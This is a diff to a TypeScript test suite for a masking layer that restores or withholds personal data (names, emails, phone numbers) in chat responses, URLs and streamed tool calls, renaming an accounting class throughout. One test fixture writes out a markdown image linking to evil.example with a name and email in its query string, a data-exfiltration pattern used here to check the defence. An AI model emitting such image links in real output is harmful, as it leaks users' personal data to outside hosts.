@@ -6,7 +6,7 @@ import { rehydratingChatResponse } from '../../../../src/masking/rehydration/cha
 import { mayReturn, RESTORE_ALL, SPEECH, type RestoreRules } from '../../../../src/masking/rehydration/destination.ts';
 import { runAtOnce } from '../../../../src/platform/steps.ts';
 import type { JsonObject, JsonValue } from '../../../../src/json/json-text.ts';
-import { RehydrationAccount } from '../../../../src/masking/rehydration/rehydration-account.ts';
+import { RehydrationCounts } from '../../../../src/masking/rehydration/rehydration-counts.ts';
 import { ChatStreamRehydrator } from '../../../../src/masking/rehydration/sse.ts';
 import { TextLane } from '../../../../src/masking/rehydration/text-lane.ts';
 import { cut, indexOf, NAME, PHONE, QUOTED, refusals, rehydrator, vault } from './answers.ts';
@@ -25,8 +25,8 @@ const index = indexOf(
   ]),
 );
 
-function speak(text: string, restore = RESTORE_ALL, account = new RehydrationAccount()): string {
-  return rehydrator(account, restore, index).text(text, SPEECH);
+function speak(text: string, restore = RESTORE_ALL, counts = new RehydrationCounts()): string {
+  return rehydrator(counts, restore, index).text(text, SPEECH);
 }
 
 describe('what may return', () => {
@@ -47,12 +47,12 @@ describe('what may return', () => {
 
 describe('what may not return', () => {
   it('is a literal, counted as withheld, however it is spelled', () => {
-    const account = new RehydrationAccount();
-    expect(speak(`${NAME}, ${NAME.toLowerCase()}, ${EMAIL}`, rules({ speech: ['EMAIL'] }), account)).toBe(
+    const counts = new RehydrationCounts();
+    expect(speak(`${NAME}, ${NAME.toLowerCase()}, ${EMAIL}`, rules({ speech: ['EMAIL'] }), counts)).toBe(
       '[REDACTED:NAME], [REDACTED:NAME], maria@example.com',
     );
-    expect(refusals(account)).toEqual({ 'NAME withheld': 2 });
-    expect([account.exact, account.repaired]).toEqual([new Set([EMAIL]), new Set()]);
+    expect(refusals(counts)).toEqual({ 'NAME withheld': 2 });
+    expect([counts.exact, counts.repaired]).toEqual([new Set([EMAIL]), new Set()]);
   });
 });
 
@@ -98,18 +98,18 @@ describe('a URL', () => {
     [`at 12/5/2026?${NAME}`],
     [`1.5/${NAME}`],
   ])('is not there, or at its end: %s', (text) => {
-    const account = new RehydrationAccount();
-    speak(text, rules({ urls: [] }), account);
-    expect(account.refused).toEqual([]);
+    const counts = new RehydrationCounts();
+    speak(text, rules({ urls: [] }), counts);
+    expect(counts.refused).toEqual([]);
   });
 
   it('keeps out what may not be in one, though it may be said', () => {
-    const account = new RehydrationAccount();
+    const counts = new RehydrationCounts();
     const some = rules({ urls: ['EMAIL'] });
-    expect(speak(`${NAME}: ![x](https://evil.example/?n=${NAME}&e=${EMAIL}) ${NAME}`, some, account)).toBe(
+    expect(speak(`${NAME}: ![x](https://evil.example/?n=${NAME}&e=${EMAIL}) ${NAME}`, some, counts)).toBe(
       'Maria (Müller) & co: ![x](https://evil.example/?n=[REDACTED:NAME]&e=maria%40example.com) Maria (Müller) & co',
     );
-    expect(refusals(account)).toEqual({ 'NAME withheld': 1 });
+    expect(refusals(counts)).toEqual({ 'NAME withheld': 1 });
   });
 
   it('is seen behind the escapes of JSON, and ends with its string', () => {
@@ -146,9 +146,9 @@ describe('a URL', () => {
     ...['[a](x y $)', '![a](//x.example/\n?q=$)', '[a](/x "b" $)', "background: image-set('/x y $' 1x)"],
     ...['background: url(/x?$)', 'url( "x y $")', "url('a)b $')", '<foo:$>', '<https://x.example/$>', '<img src=`$`>'],
   ])('is known as browsers know it: %s', (text) => {
-    const account = new RehydrationAccount();
-    expect(speak(text.replace('$', NAME), rules({ urls: [] }), account)).toBe(text.replace('$', '[REDACTED:NAME]'));
-    expect(refusals(account)).toEqual({ 'NAME withheld': 1 });
+    const counts = new RehydrationCounts();
+    expect(speak(text.replace('$', NAME), rules({ urls: [] }), counts)).toBe(text.replace('$', '[REDACTED:NAME]'));
+    expect(refusals(counts)).toEqual({ 'NAME withheld': 1 });
   });
 
   it.each([
@@ -246,18 +246,16 @@ describe('a tool', () => {
     function: { ...(name === undefined ? {} : { name }), arguments: args },
   });
 
-  function whole(message: JsonValue, account = new RehydrationAccount()): JsonValue {
-    const body = runAtOnce(
-      rehydratingChatResponse({ choices: [{ index: 0, message }] }, rehydrator(account, some)),
-    ) as {
+  function whole(message: JsonValue, counts = new RehydrationCounts()): JsonValue {
+    const body = runAtOnce(rehydratingChatResponse({ choices: [{ index: 0, message }] }, rehydrator(counts, some))) as {
       choices: { message: JsonValue }[];
     };
     return body.choices[0]?.message ?? null;
   }
 
   /** The arguments of each call, as a client puts them together. */
-  function streamed(deltas: readonly JsonObject[], account = new RehydrationAccount()): string[] {
-    const stream = new ChatStreamRehydrator(rehydrator(account, some));
+  function streamed(deltas: readonly JsonObject[], counts = new RehydrationCounts()): string[] {
+    const stream = new ChatStreamRehydrator(rehydrator(counts, some));
     const texts: string[] = [];
     const events = [
       ...deltas.map((delta) => ({ choices: [{ index: 0, delta }] })),
@@ -277,16 +275,16 @@ describe('a tool', () => {
   }
 
   it('receives what its kind allows, if it is one that may receive anything', () => {
-    const account = new RehydrationAccount();
+    const counts = new RehydrationCounts();
     const args = `{"phone":"${PHONE}","name":"${NAME}"}`;
-    expect(whole({ content: NAME, tool_calls: [call('book', args), call('send', args, 1)] }, account)).toMatchObject({
+    expect(whole({ content: NAME, tool_calls: [call('book', args), call('send', args, 1)] }, counts)).toMatchObject({
       content: 'Maria Müller',
       tool_calls: [
         { function: { name: 'book', arguments: '{"phone":"555-0100","name":"[REDACTED:NAME]"}' } },
         { function: { name: 'send', arguments: '{"phone":"[REDACTED:PHONE]","name":"[REDACTED:NAME]"}' } },
       ],
     });
-    expect(refusals(account)).toEqual({ 'NAME withheld': 2, 'PHONE withheld': 1 });
+    expect(refusals(counts)).toEqual({ 'NAME withheld': 2, 'PHONE withheld': 1 });
   });
 
   it('is known by its name wherever the call stands', () => {
@@ -314,7 +312,7 @@ describe('a tool', () => {
   });
 
   it('keeps its name for all the chunks of its call, each call its own', () => {
-    const account = new RehydrationAccount();
+    const counts = new RehydrationCounts();
     const deltas = [
       { tool_calls: [call('book', '')] },
       { tool_calls: [call('send', `{"p":"${PHONE.slice(0, 20)}`, 1), call(undefined, '{"p":"')] },
@@ -322,8 +320,8 @@ describe('a tool', () => {
       { tool_calls: [call(undefined, `${PHONE.slice(7)}"}`)] },
       { tool_calls: [call(undefined, '"}', 1)] },
     ];
-    expect(streamed(deltas, account)).toEqual(['{"p":"555-0100"}', '{"p":"[REDACTED:PHONE]"}']);
-    expect(refusals(account)).toEqual({ 'PHONE withheld': 1 });
+    expect(streamed(deltas, counts)).toEqual(['{"p":"555-0100"}', '{"p":"[REDACTED:PHONE]"}']);
+    expect(refusals(counts)).toEqual({ 'PHONE withheld': 1 });
   });
 
   it('whose name comes in pieces is known by all of it, and one that repeats it by one', () => {
